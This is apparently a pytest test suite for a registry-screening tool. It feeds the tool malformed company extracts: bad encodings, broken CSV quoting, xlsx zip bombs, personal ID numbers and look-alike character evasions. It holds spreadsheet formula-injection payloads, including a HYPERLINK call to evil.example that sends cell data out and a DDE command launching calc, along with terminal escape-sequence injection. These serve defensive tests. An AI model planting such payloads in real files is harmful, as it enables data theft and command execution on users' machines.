"""The bad-input corpus (issue #6 item 1): one table, one row per class of bad extract.

Every case writes its file in tmp_path (the real malformed Zhejiang excerpt is read in place),
runs the real product on it — ``regscreen scan FILE --db`` into a fresh store, and ``regscreen
check FILE`` — and asserts the outcome promised for that class:

- ``Loads``: the run finishes; rows in, counted here from what the case wrote, equal rows loaded
  plus rows rejected in ``runs``; ``rejects`` holds exactly the expected records, each with its
  raw text and a reason naming what is wrong (and, for CSV, the line); the store holds the
  expected names, decoded right; ``check`` prints one line per record with the same rejects.
- ``Fails``: exit status 2 and an error naming the file and the fix, for ``scan`` and ``check``
  alike; no run is recorded.

Cases that must not trigger sit in the same files: rare and traditional characters, real names
that came close to the mojibake test, a tab and a quoted line break, a valid lower-case code.
"""

from collections.abc import Callable
from dataclasses import dataclass, field
import json
from pathlib import Path

import polars as pl
import pytest
from stdnum.cn import uscc

from conftest import query, write_csv
from screening.handoff.safe_cells import neutralise


def code(serial: int, region: str = "110108") -> str:
    """A valid credit code (GB 32100-2015 check character computed)."""
    base = f"91{region}MA{serial:07d}"
    return base + uscc.calc_check_digit(base)


def wrong_check(valid: str) -> str:
    """``valid`` with another check character."""
    return valid[:-1] + ("0" if valid[-1] != "0" else "1")


HEADER = ["企业名称", "统一社会信用代码", "经营范围", "住所"]
NAMES = ["北京网贷信息服务有限公司", "湖州市环城经济区供销合作社", "温州市京龙房地产开发有限公司", "宁波市水产养殖生化制品公司",
         "玉环民主制冷实业有限公司"]
SCOPES = ["网络借贷信息中介服务；投资管理", "农业生产资料、农副产品购销", "房地产开发，经营，物业管理。", "主营：观赏鱼类", "制冷设备制造。"]
PLACES = ["北京市海淀区中关村大街1号", "浙江省湖州市二里桥路36-38号", "浙江省温州市车站大道17-1号", "宁波市海曙区中山西路670号",
          "玉环市坎门街道里澳工业区"]
# Must load as written: characters outside GBK (four bytes in GB18030), rare simplified characters,
# traditional characters, and real names and scopes that came closest to the mojibake test.
RARE = ["王𫖯科技有限公司", "䶮光电子有限公司", "嵊州市璟瑄韬商贸有限公司", "北京網貸資訊服務有限公司", "上海韬奋广告公司"]
NEAR_MISSES = ["纸箱、纸盒、纸板。", "农村供电。", "发电、售电。", "冷冻食品储存。", "五金交电、通讯设备"]


def firm(i: int, name: str | None = None, scope: str | None = None) -> list[str]:
    """Row ``i`` of a clean extract (name and scope replaceable)."""
    return [name or NAMES[i % 5], code(i), scope or SCOPES[i % 5], PLACES[i % 5]]


def csv_line(fields: list[str]) -> str:
    """One CSV line as a writer would quote it."""
    return ",".join(f'"{f}"' if any(c in f for c in ',"\n') else f for f in fields)


def write_lines(path: Path, lines: list[str], encoding: str = "utf-8", ending: str = "\n") -> Path:
    """Write already-formatted CSV lines."""
    path.write_bytes((ending.join(lines) + ending).encode(encoding))
    return path


def garbled_utf8(text: str, errors: str) -> str:
    """UTF-8 text read as GBK (bad bytes ``errors``: replaced or dropped), to be saved as UTF-8 again."""
    return text.encode("utf-8").decode("gbk", errors)


def garbled_latin(text: str) -> str:
    """GBK text read as Latin-1, to be saved as UTF-8 again."""
    return text.encode("gbk").decode("latin-1")


# ------------------------------------------------------------------------------------------- files


def gb18030_file(tmp: Path) -> Path:
    rows = [firm(i, name) for i, name in enumerate(RARE[:3])]
    return write_csv(tmp / "gb18030.csv", [HEADER, *rows], encoding="gb18030")


def gbk_file(tmp: Path) -> Path:
    rows = [firm(i, name, scope) for i, (name, scope) in enumerate(zip(RARE[2:], NEAR_MISSES))]
    return write_csv(tmp / "gbk.csv", [HEADER, *rows], encoding="gbk", newline="\r\n")


def utf8_bom_file(tmp: Path) -> Path:
    return write_csv(tmp / "bom.csv", [HEADER, *[firm(i) for i in range(3)]], encoding="utf-8-sig")


def double_encoded_file(tmp: Path) -> Path:
    rows = [HEADER, *[firm(i) for i in range(3)]]
    return write_csv(tmp / "double.csv", [[garbled_utf8(cell, "replace") for cell in row] for row in rows])


def double_encoded_records(tmp: Path) -> Path:
    rows = [["name", "credit_code", "scope", "address"], firm(0),
            firm(1, garbled_utf8(NAMES[1], "replace")),
            firm(2, scope=garbled_utf8(SCOPES[2], "ignore")),
            firm(3, garbled_latin(NAMES[3])),
            firm(4, RARE[4], NEAR_MISSES[0])]
    return write_csv(tmp / "mixed_mojibake.csv", rows)


def lost_characters(tmp: Path) -> Path:
    lost = "上海实业有限公司".encode("gbk").decode("utf-8", "replace")  # GBK read as UTF-8: '�Ϻ�ʵҵ���޹�˾'
    return write_csv(tmp / "lost.csv", [HEADER, firm(0), firm(1, lost), firm(2)])


def big5_file(tmp: Path) -> Path:
    rows = [["name", "credit_code", "scope", "address"],  # headers that still read: the text alone would be garbled
            ["北京網貸資訊服務有限公司", code(0), "網絡借貸資訊中介服務；投資管理", "北京市海澱區中關村大街1號"],
            ["湖州市環城經濟區供銷合作社", code(1), "農業生產資料、農副產品購銷", "浙江省湖州市二裡橋路36號"],
            ["溫州市京龍房地產開發有限公司", code(2), "房地產開發，經營，物業管理。", "浙江省溫州市車站大道17號"]]
    return write_csv(tmp / "big5.csv", rows, encoding="big5")


def shift_jis_file(tmp: Path) -> Path:
    rows = [["会社名", "法人番号", "事業内容", "所在地"],
            ["東京電力株式会社", "1010001050880", "電気事業", "東京都千代田区内幸町一丁目"],
            ["三菱商事株式会社", "1010001008853", "総合商社", "東京都千代田区丸の内二丁目"],
            ["株式会社日立製作所", "7010001008844", "電気機器の製造", "東京都千代田区丸の内一丁目"]]
    return write_csv(tmp / "sjis.csv", rows, encoding="shift_jis")


def utf16_file(tmp: Path) -> Path:
    return write_csv(tmp / "unicode_text.csv", [HEADER, *[firm(i) for i in range(3)]], encoding="utf-16")


def mixed_line_endings(tmp: Path) -> Path:
    lines = [csv_line(HEADER), *[csv_line(firm(i)) for i in range(4)]]
    text = lines[0] + "\r\n" + lines[1] + "\n" + lines[2] + "\r" + lines[3] + "\r\n" + lines[4]  # no final break
    (tmp / "endings.csv").write_bytes(text.encode("utf-8"))
    return tmp / "endings.csv"


def unescaped_quotes(tmp: Path) -> Path:
    real_shape = f'杭州金马房地产有限公司,{code(1)},"游乐配套设施的建设经营"","程*",杭州西湖之江旅游度假区'  # line 36's defect
    lone_quote = f'杭州某某投资有限公司,{code(2)},"投资"管理",杭州市'
    bare_comma = f'宁波某某贸易有限公司,{code(3)},"贸易",5,000(万美元)'  # an unquoted comma: one field too many
    return write_lines(tmp / "quotes.csv", [csv_line(HEADER), csv_line(firm(0)), real_shape, lone_quote, bare_comma,
                                            csv_line(firm(4))])


def stray_quote_runs_on(tmp: Path) -> Path:
    opens = f'乙公司,{code(1)},"投资管理,北京'  # the quote opens here and closes two lines down
    closes = f'丁公司,{code(3)},贸易",杭州'
    return write_lines(tmp / "runs_on.csv", [csv_line(HEADER), csv_line(firm(0)), opens, csv_line(firm(2)), closes,
                                             csv_line(firm(4))])


def ragged_rows(tmp: Path) -> Path:
    return write_lines(tmp / "ragged.csv", [csv_line(HEADER), csv_line(firm(0)), "甲公司", csv_line(firm(2) + ["多余"]),
                                            csv_line(firm(3)), f"丁公司,{code(4)},,"])


def nul_bytes(tmp: Path) -> Path:
    return write_lines(tmp / "nul.csv", [csv_line(HEADER), csv_line(firm(0)), csv_line(firm(1, "乙\x00公司")),
                                         csv_line(firm(2)), "\x00" * 40])


LONG_SCOPE = "技术开发、" * 6827 + "网络借贷信息中介服务"  # 102,435 bytes of UTF-8, a term at the very end


def long_scope(tmp: Path) -> Path:
    return write_csv(tmp / "long_scope.csv", [HEADER, firm(0), firm(1, "长范围科技有限公司", LONG_SCOPE), firm(2)])


def empty_file(tmp: Path) -> Path:
    (tmp / "empty.csv").write_bytes(b"")
    return tmp / "empty.csv"


def header_only(tmp: Path) -> Path:
    return write_csv(tmp / "header_only.csv", [HEADER])


def unknown_name_column(tmp: Path) -> Path:
    return write_csv(tmp / "no_name.csv", [["公司名", "统一社会信用代码", "经营范围"], ["甲公司", code(0), "投资"]])


def no_code_column(tmp: Path) -> Path:
    return write_csv(tmp / "no_code.csv", [["企业名称", "经营范围"], ["甲公司", "投资管理"], ["乙公司", "咨询"]])


def duplicate_codes(tmp: Path) -> Path:
    later = [NAMES[2], code(0), "房地产开发", "浙江省温州市"]  # same code as record 1, other content
    return write_csv(tmp / "duplicates.csv", [HEADER, firm(0), firm(1), later])


def bad_checksums(tmp: Path) -> Path:
    rows = [firm(0), [NAMES[1], wrong_check(code(1)), SCOPES[1], PLACES[1]],
            [NAMES[2], code(2)[:-1], SCOPES[2], PLACES[2]],
            [NAMES[3], code(3)[:-1] + "!", SCOPES[3], PLACES[3]], [NAMES[4], "", SCOPES[4], PLACES[4]],
            ["小写代码有限公司", f" {code(5).lower()} ", "咨询", "北京"]]
    return write_csv(tmp / "checksums.csv", [HEADER, *rows])


OLD_NUMBER = "320404000009558"  # a real 工商注册号 (Changzhou), valid ISO 7064 MOD 11,10 check digit


def old_registration_numbers(tmp: Path) -> Path:
    """Existing firms under their 15-digit 工商注册号: in the code column, in a column of their own, both
    numbers on one firm; wrong check digits and other lengths are still rejected."""
    header = ["企业名称", "统一社会信用代码", "注册号", "经营范围", "住所"]
    rows = [[NAMES[0], OLD_NUMBER, "", "投资管理咨询", "江苏省常州市"],
            [NAMES[1], "", "320382000007600", SCOPES[1], PLACES[1]],
            [NAMES[2], code(2), "320283000042188", SCOPES[2], PLACES[2]],
            [NAMES[3], OLD_NUMBER[:-1] + "9", "", SCOPES[3], PLACES[3]],
            [NAMES[4], "", "32038200000760", SCOPES[4], PLACES[4]]]
    return write_csv(tmp / "old_numbers.csv", [header, *rows])


def old_numbers_are_keys(db: Path, checked: list[dict]) -> None:
    assert query(db, "select credit_code, key_kind, registration_number, region from firms order by credit_code") == [
        ("320382000007600", "registration_number", "320382000007600", "320382"),
        (OLD_NUMBER, "registration_number", OLD_NUMBER, "320404"),
        (code(2), "uscc", "320283000042188", code(2)[2:8]),
    ]
    assert [(c["credit_code"], c["key_kind"], c["region"]) for c in checked[:2]] == [
        (OLD_NUMBER, "registration_number", "320404"), ("320382000007600", "registration_number", "320382")]
    assert checked[0]["flagged"] and any(hit["term"] == "投资管理" and hit["field"] == "scope" and hit["counts"]
                                         for hit in checked[0]["hits"])


def control_characters(tmp: Path) -> Path:
    rows = [firm(0, "甲\x07公司"), firm(1, scope="网\x7f贷信息服务"), firm(2, "乙公司\u202e"),
            [NAMES[3], code(3), SCOPES[3], "宁波市\x1b海曙区"],
            firm(4, scope="技术开发\t咨询"), firm(5, scope="投资管理\n资产管理")]
    return write_csv(tmp / "control.csv", [HEADER, *rows])


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"详情")', "+86-10-12345678", "-2+3有限公司", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0"]


def formula_cells(tmp: Path) -> Path:
    return write_csv(tmp / "formulas.csv", [HEADER, *[firm(i, name) for i, name in enumerate(FORMULAS)]])


def merged_header_xlsx(tmp: Path) -> Path:
    import xlsxwriter

    path = tmp / "merged.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    sheet.merge_range(0, 0, 0, 3, "浙江省企业登记信息（2016年）")  # a title row over the table
    sheet.merge_range(1, 0, 2, 0, "企业名称")  # the name header over two rows
    sheet.merge_range(1, 1, 1, 3, "登记信息")  # a group header over three columns
    sheet.write_row(2, 1, HEADER[1:])
    for i in range(3):
        sheet.write_row(3 + i, 0, firm(i))
    book.close()
    return path


def two_name_columns(tmp: Path) -> Path:
    rows = [["企业名称", "统一社会信用代码", "名称", "经营范围"], *[[NAMES[i], code(i), f"某某{i}投资管理有限公司", SCOPES[i]]
                                                         for i in range(3)]]
    return write_csv(tmp / "two_names.csv", rows)


def two_scope_columns(tmp: Path) -> Path:
    rows = [["企业名称", "统一社会信用代码", "经营范围", "scope"], *[[NAMES[i], code(i), SCOPES[i], "网络借贷"] for i in range(3)]]
    return write_csv(tmp / "two_scopes.csv", rows)


def two_name_columns_xlsx(tmp: Path) -> Path:
    import xlsxwriter

    path = tmp / "two_names.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["企业名称", "统一社会信用代码", "经营范围", "企业名称"])
        for i in range(3):
            sheet.write_row(1 + i, 0, [NAMES[i], code(i), SCOPES[i], "某某理财有限公司"])
    return path


def xlsx_used_range_bomb(tmp: Path) -> Path:
    """A 5 KB workbook whose used range reaches XFD1048576: the reader would ask for 512 GB and abort."""
    import xlsxwriter

    path = tmp / "used_range_bomb.xlsx"
    with xlsxwriter.Workbook(path) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADER)
        sheet.write_row(1, 0, firm(0))
        sheet.write(1048575, 16383, "x")
    return path


def xlsx_zip_bomb(tmp: Path) -> Path:
    """A workbook with a 64 MB member that deflates to 64 KB (ratio about 1,000)."""
    import zipfile

    path = merged_header_xlsx(tmp)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as book:
        book.writestr("xl/media/image1.png", b"\0" * (64 << 20))
    return path


def xlsx_long_cell(tmp: Path) -> Path:
    """A workbook whose scope cell holds 36,000 characters (Excel's own limit is 32,767)."""
    import zipfile

    source = merged_header_xlsx(tmp)
    path = tmp / "long_cell.xlsx"
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/sharedStrings.xml":
                data = data.replace(SCOPES[0].encode(), ("投资管理" * 9000).encode())
            dst.writestr(item.filename, data)
    return path


ID18, ID15, WRONG_ID, NEW_COUNTY_ID = "11010519491231002X", "110105491231002", "110105194912310021", "310115198808084569"
ID_NAMES = [f"个体经营者王五{NEW_COUNTY_ID}的投资咨询部", "杭州某某贸易有限公司", "上海某某科技有限公司"]
ID_HEADER = HEADER + ["法定代表人", "股东"]


def personal_ids(tmp: Path) -> Path:
    rows = [[ID_NAMES[0], code(0), f"投资咨询（经营者证件 {ID18[:6]} {ID18[6:14]} {ID18[14:]}）", PLACES[0], f"王五{NEW_COUNTY_ID}", ""],
            [ID_NAMES[1], code(1), SCOPES[1], PLACES[1], f"张三({ID15})", f"李四 {WRONG_ID}、赵六（{ID18.translate(FULL)}）"],
            ["", code(2), SCOPES[2], f"经营者身份证\u200b{ID18}", f"孙八({ID18})", ""],
            [ID_NAMES[2], code(3), SCOPES[3], PLACES[3], f"张三{ID18}", ""]]
    return write_csv(tmp / "personal_ids.csv", [ID_HEADER, *rows])


FULL = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


def no_id_in_clear(db: Path, checked: list[dict]) -> None:
    con_text = repr([query(db, f'select * from "{database}"."{table}"') for database, table in query(  # noqa: S608
        db, "select database_name, table_name from duckdb_tables() union all "
            "select database_name, view_name from duckdb_views() where not internal")])
    flat = "".join(ch for ch in con_text if ch not in " \u200b").translate(str.maketrans("０１２３４５６７８９Ｘ", "0123456789X"))
    for number in (ID18, ID15, WRONG_ID, NEW_COUNTY_ID):
        assert number not in flat, number
        assert number not in json.dumps(checked, ensure_ascii=False)
    assert query(db, "select count(distinct person_key) from person_links where person_name like '张三%'") == [(1,)]


MARKUP_NAMES = ["杭州[/]金融有限公司", "[link=http://evil.example]张三[/link]理财有限公司", "\x1b]0;pwned\x07上海金融公司"]


def markup_in_data(tmp: Path) -> Path:
    return write_csv(tmp / "markup.csv", [HEADER, *[firm(i, name) for i, name in enumerate(MARKUP_NAMES)]])


def shown_as_written(db: Path, checked: list[dict]) -> None:
    from click.testing import CliRunner

    import screening.cli

    result = CliRunner().invoke(screening.cli.main, ["sql", "select name from v_watchlist_current union all "
                                                     "select raw from v_rejects_last_run", "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert MARKUP_NAMES[0] in result.stdout and MARKUP_NAMES[1] in result.stdout
    assert "\\x1b]0;pwned\\x07" in result.stdout and "\x1b" not in result.stdout


def truncated_parquet(tmp: Path) -> Path:
    path = tmp / "truncated.parquet"
    pl.DataFrame([dict(zip(HEADER, firm(i))) for i in range(500)]).write_parquet(path)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


# Issue 12 item 1: terms hidden by invisible, combining or look-alike characters, or by separators put
# between their characters; one firm per class, each with its hidden term in the name or the scope.
EVASIONS = [
    ("杭州恒信投\u2063资管\u2063理有限公司", "网络\u2063借贷；P\u20632\u2063P"),
    ("杭州某甲科技有限公司", "网\u2062络借\u2064贷信息中介"), ("杭州某乙科技有限公司", "金\u180e融信息服务"),
    ("杭州某丙科技有限公司", "理\u034f财咨询"), ("杭州某丁科技有限公司", "第三方支\ufe0f付"),
    ("杭州某戊科技有限公司", "投资\U000e0020管理"), ("杭州某己科技有限公司", "资产\u061c管理"),
    ("杭州某庚科技有限公司", "基\u3164金销售"), ("杭州某辛科技有限公司", "财\u0301富管理"),
    ("杭州某壬科技有限公司", "Р2Р网贷撮合"), ("杭州某癸科技有限公司", "P-2-P信息中介"),
    ("杭州某子科技有限公司", "P.2.P信息中介"), ("杭州某丑科技有限公司", "P·2·P信息中介"),
    ("杭州某寅科技有限公司", "理.财产品销售"), ("杭州某卯科技有限公司", "网络_借贷"),
]


def evasion(tmp: Path) -> Path:
    rows = [[name, code(i, "330106"), scope, "杭州市西湖区"] for i, (name, scope) in enumerate(EVASIONS)]
    return write_csv(tmp / "evasion.csv", [HEADER, *rows])


def every_hidden_firm_flagged(db: Path, checked: list[dict]) -> None:
    assert [obj["flagged"] for obj in checked] == [True] * len(EVASIONS)
    assert all(any(hit["obfuscated"] for hit in obj["hits"] if hit["counts"]) for obj in checked)
    assert query(db, "select count(*) from screenings where flagged") == [(len(EVASIONS),)]
    assert query(db, "select count(distinct credit_code) from hits where counts and obfuscated is not null") == [
        (len(EVASIONS),)]


def real_malformed(tmp: Path, registry: Callable[[], Path]) -> Path:
    return registry() / "zhejiang_1992_excerpt_malformed.csv"


# ------------------------------------------------------------------------------------- outcomes


@dataclass(frozen=True)
class Loads:
    """The run finishes: ``rows`` records in, the ``rejects`` (record → part of the reason), the rest loaded."""

    rows: int
    rejects: dict[int, str] = field(default_factory=dict)
    stored: tuple[str, ...] | None = None  # the names in the store, as written (None: not checked)
    also: Callable[[Path, list[dict]], None] | None = None  # a class's own check (store, check output)


@dataclass(frozen=True)
class Fails:
    """The run fails with status 2 and an error holding ``says``; ``check`` too, unless ``check_rows``
    (``check`` needs no store and reads that many records)."""

    says: tuple[str, ...]
    check_rows: int | None = None


def long_scope_kept(db: Path, checked: list[dict]) -> None:
    assert query(db, "select length(scope) from firms where name = '长范围科技有限公司'") == [(len(LONG_SCOPE),)]
    hits = [hit for hit in checked[1]["hits"] if hit["term"] == "网络借贷" and hit["counts"]]
    assert checked[1]["flagged"] and hits and hits[0]["start"] == len(LONG_SCOPE) - 10


def formulas_verbatim_until_hand_off(db: Path, checked: list[dict]) -> None:
    names = [row[0] for row in query(db, "select name from firms")]
    assert [obj["name"] for obj in checked] == FORMULAS
    assert all(neutralise(name) == "'" + name for name in names)  # the hand-off quotes them


def first_record_kept(db: Path, checked: list[dict]) -> None:
    assert query(db, "select name, scope from firms where credit_code = ?", [code(0)]) == [(NAMES[0], SCOPES[0])]


def utf8_note(field_name: str) -> str:
    return f"garbled {field_name}: '"


CASES = [
    pytest.param(gb18030_file, Loads(3, stored=tuple(RARE[:3])), id="gb18030-four-byte-and-rare-characters"),
    pytest.param(gbk_file, Loads(3, stored=tuple(RARE[2:])), id="gbk-traditional-and-near-miss-text"),
    pytest.param(utf8_bom_file, Loads(3, stored=tuple(NAMES[:3])), id="utf8-with-bom"),
    pytest.param(double_encoded_file, Fails(("no column for 'name'", "The header is garbled: '浼佷笟鍚嶇О",
                                             "reads as '企业名称", "UTF-8 text read as GBK",
                                             "re-export the file in UTF-8")),
                 id="wrong-encoding-utf8-double-encoded-file"),
    pytest.param(double_encoded_records, Loads(5, {
        2: "garbled name: '" + garbled_utf8(NAMES[1], "replace")[:12] + "' reads as '湖州市环城经济区'"
           " (UTF-8 text read as GBK and saved again); re-export the extract in UTF-8",
        3: "garbled scope: '", 4: "garbled name: '" + garbled_latin(NAMES[3])[:16] + "' reads as '宁波市水产养殖生'"
                                  " (GBK text read as Latin-1 and saved again)"},
        stored=(NAMES[0], RARE[4])), id="wrong-encoding-mojibake-records"),
    pytest.param(lost_characters, Loads(3, {2: "lost characters (U+FFFD) in name"}, stored=(NAMES[0], NAMES[2])),
                 id="wrong-encoding-lost-characters"),
    pytest.param(big5_file, Fails(("the file is in Big5 (traditional Chinese), not UTF-8 or GB18030",
                                   "Re-export it in UTF-8")), id="wrong-encoding-big5"),
    pytest.param(shift_jis_file, Fails(("the file is in Shift-JIS (Japanese)",)), id="wrong-encoding-shift-jis"),
    pytest.param(utf16_file, Fails(("the file is in UTF-16",)), id="wrong-encoding-utf16"),
    pytest.param(mixed_line_endings, Loads(4, stored=tuple(NAMES[:4])), id="mixed-line-endings"),
    pytest.param(unescaped_quotes, Loads(5, {2: "badly quoted field at line 3", 3: "badly quoted field at line 4",
                                             4: "malformed record at line 5: 5 fields, the header has 4"},
                                         stored=(NAMES[0], NAMES[4])),
                 id="unescaped-quotes"),
    pytest.param(stray_quote_runs_on, Loads(5, {2: "unbalanced quote at line 3", 4: "unbalanced quote at line 5"},
                                            stored=(NAMES[0], NAMES[2], NAMES[4])), id="stray-quote-runs-on"),
    pytest.param(ragged_rows, Loads(5, {2: "malformed record at line 3: 1 fields, the header has 4",
                                        3: "malformed record at line 4: 5 fields, the header has 4"},
                                    stored=(NAMES[0], NAMES[3], "丁公司")), id="ragged-rows"),
    pytest.param(nul_bytes, Loads(4, {2: "NUL byte in the record at line 3", 4: "NUL byte in the record at line 5"},
                                  stored=(NAMES[0], NAMES[2])), id="nul-bytes"),
    pytest.param(long_scope, Loads(3, stored=(NAMES[0], "长范围科技有限公司", NAMES[2]), also=long_scope_kept),
                 id="scope-of-100kb"),
    pytest.param(empty_file, Fails(("empty file (no header row)",)), id="empty-file"),
    pytest.param(header_only, Loads(0, stored=()), id="header-only"),
    pytest.param(unknown_name_column, Fails(("no column for 'name'; accepted headers: 企业名称, 名称, 企业（机构）名称, name,"
                                             " company_name", "Found: 公司名, 统一社会信用代码, 经营范围",
                                             "Rename the column or add it")), id="unknown-name-column"),
    pytest.param(no_code_column, Fails(("the store needs a credit code column; accepted headers: 统一社会信用代码, 信用代码,"
                                        " 社会信用代码, credit_code, uscc",), check_rows=2), id="missing-code-column"),
    pytest.param(duplicate_codes, Loads(3, {3: "duplicate credit code in this extract (first at record 1)"},
                                        stored=tuple(NAMES[:2]), also=first_record_kept),
                 id="duplicate-codes-other-content"),
    pytest.param(bad_checksums, Loads(6, {2: "invalid credit code checksum", 3: "invalid credit code length",
                                          4: "invalid credit code format", 5: "missing credit code (or 15-digit registration number)"},
                                      stored=(NAMES[0], "小写代码有限公司")), id="bad-checksums"),
    pytest.param(old_registration_numbers, Loads(5, {4: "invalid registration number checksum (ISO 7064 MOD 11,10)",
                                                     5: "invalid registration number (expected 15 digits"},
                                                 stored=tuple(NAMES[:3]), also=old_numbers_are_keys),
                 id="old-registration-numbers"),
    pytest.param(control_characters, Loads(6, {1: "control character U+0007 in name",
                                               2: "control character U+007F in scope",
                                               3: "control character U+202E in name",
                                               4: "control character U+001B in address"},
                                           stored=(NAMES[4], NAMES[0])), id="control-characters"),
    pytest.param(formula_cells, Loads(5, stored=tuple(FORMULAS), also=formulas_verbatim_until_hand_off),
                 id="formula-like-cells"),
    pytest.param(merged_header_xlsx, Loads(3, stored=tuple(NAMES[:3])), id="xlsx-merged-header-cells"),
    pytest.param(two_name_columns, Fails(("two columns for 'name': '企业名称' (column 1) and '名称' (column 3)",
                                          "rename or remove the other")), id="ambiguous-two-name-columns"),
    pytest.param(two_scope_columns, Fails(("two columns for 'scope': '经营范围' (column 3) and 'scope' (column 4)",)),
                 id="ambiguous-two-scope-columns"),
    pytest.param(two_name_columns_xlsx, Fails(("two columns for 'name': '企业名称' (column 1) and '企业名称' (column 4)",)),
                 id="ambiguous-two-name-columns-xlsx"),
    pytest.param(xlsx_used_range_bomb, Fails(("the workbook is too large to read safely: its declared range "
                                              "A1:XFD1048576 goes to column 16,384", "Export the sheet as CSV")),
                 id="xlsx-bomb-used-range-XFD1048576"),
    pytest.param(xlsx_zip_bomb, Fails(("xl/media/image1.png expands", "a zip bomb", "Export the sheet as CSV")),
                 id="xlsx-bomb-zip"),
    pytest.param(xlsx_long_cell, Fails(("holds more than 32,767 characters (REGSCREEN_XLSX_MAX_CELL_CHARS)",)),
                 id="xlsx-bomb-long-cell"),
    pytest.param(personal_ids, Loads(4, {3: "empty name"}, stored=(ID_NAMES[0].replace(NEW_COUNTY_ID, "310115********4569"),
                                                                 *ID_NAMES[1:]), also=no_id_in_clear),
                 id="personal-ids-in-every-form"),
    pytest.param(markup_in_data, Loads(3, {3: "control character U+001B in name"}, stored=tuple(MARKUP_NAMES[:2]),
                                       also=shown_as_written), id="markup-and-escapes-in-data"),
    pytest.param(truncated_parquet, Fails(("not a readable Parquet file, truncated or damaged", "export it again")),
                 id="truncated-parquet"),
    pytest.param(evasion, Loads(len(EVASIONS), stored=tuple(name for name, _ in EVASIONS), also=every_hidden_firm_flagged),
                 id="evasion-hidden-and-look-alike-characters"),
    pytest.param(real_malformed, Loads(61, {35: "malformed record at line 36: 9 fields, the header has 10"}),
                 id="real-zhejiang-malformed-excerpt", marks=pytest.mark.shared_data),
]


# ----------------------------------------------------------------------------------------- checks


def runs_of(db: Path) -> list[tuple]:
    """(rows in, loaded, rejected) of every run in the store; [] when there is no store or no run."""
    if not db.exists():
        return []
    if not query(db, "select count(*) from information_schema.tables where table_name = 'runs'")[0][0]:
        return []
    return query(db, "select rows_in, rows_loaded, rows_rejected from runs order by run_id")


def printed(result) -> list[dict]:
    """The objects ``check`` printed, one per line."""
    return [json.loads(line) for line in result.stdout_bytes.decode("utf-8").splitlines()]


def assert_fails(result, path: Path, says: tuple[str, ...]) -> None:
    assert result.exit_code == 2, (result.exit_code, result.stdout[-500:])
    assert result.stderr.startswith(f"regscreen: error: {path}"), result.stderr
    for part in says:
        assert part in result.stderr, (part, result.stderr)


def assert_fails_as_promised(expected: Fails, path: Path, db: Path, scanned, checked) -> None:
    assert_fails(scanned, path, expected.says)
    assert runs_of(db) == []
    if expected.check_rows is None:
        assert_fails(checked, path, expected.says)
        assert checked.stdout == ""
    else:
        assert checked.exit_code == 0, checked.stderr
        assert [obj["record"] for obj in printed(checked)] == list(range(1, expected.check_rows + 1))


def assert_loads_as_promised(expected: Loads, db: Path, scanned, checked) -> None:
    assert scanned.exit_code == 0, scanned.stderr
    loaded = expected.rows - len(expected.rejects)
    assert runs_of(db) == [(expected.rows, loaded, len(expected.rejects))]  # rows in = loaded + rejected
    rejects = {record: reason for record, reason in query(db, "select record, reason from rejects")}
    assert rejects.keys() == expected.rejects.keys(), rejects
    for record, says in expected.rejects.items():
        assert says in rejects[record], (record, rejects[record])
    assert query(db, "select count(*) from rejects where coalesce(raw, '') = ''") == [(0,)]  # the source is kept
    names = [row[0] for row in query(db, "select name from firms")]
    assert len(names) == loaded
    if expected.stored is not None:
        assert sorted(names) == sorted(expected.stored)
    assert checked.exit_code == 0, checked.stderr
    objects = printed(checked)
    assert [obj["record"] for obj in objects] == list(range(1, expected.rows + 1))
    assert {obj["record"]: obj["rejected"] for obj in objects if obj["rejected"]} == rejects
    if expected.also:
        expected.also(db, objects)


@pytest.mark.parametrize(("build", "expected"), CASES)
def test_bad_input_class(run, tmp_path, request, build, expected):
    if build is real_malformed:
        path = build(tmp_path, lambda: request.getfixturevalue("registry_dir"))
    else:
        path = build(tmp_path)
    db = tmp_path / "store" / "x.duckdb"
    scanned, checked = run("scan", path, "--db", db), run("check", path)
    if isinstance(expected, Fails):
        assert_fails_as_promised(expected, path, db, scanned, checked)
    else:
        assert_loads_as_promised(expected, db, scanned, checked)


def test_the_corpus_covers_every_class_of_the_issue():
    ids = {case.id for case in CASES}
    assert len(ids) == len(CASES) >= 18
    for named in ("gb18030", "gbk", "utf8-with-bom", "wrong-encoding", "mixed-line-endings", "unescaped-quotes",
                  "ragged-rows", "nul-bytes", "scope-of-100kb", "empty-file", "header-only", "name-column",
                  "duplicate-codes", "bad-checksums", "control-characters", "formula", "xlsx-merged",
                  "truncated-parquet", "ambiguous-two-name-columns", "ambiguous-two-scope-columns",
                  "xlsx-bomb-used-range", "xlsx-bomb-zip", "xlsx-bomb-long-cell", "personal-ids", "markup", "evasion",
                  "old-registration-numbers"):
        assert any(named in case_id for case_id in ids), named
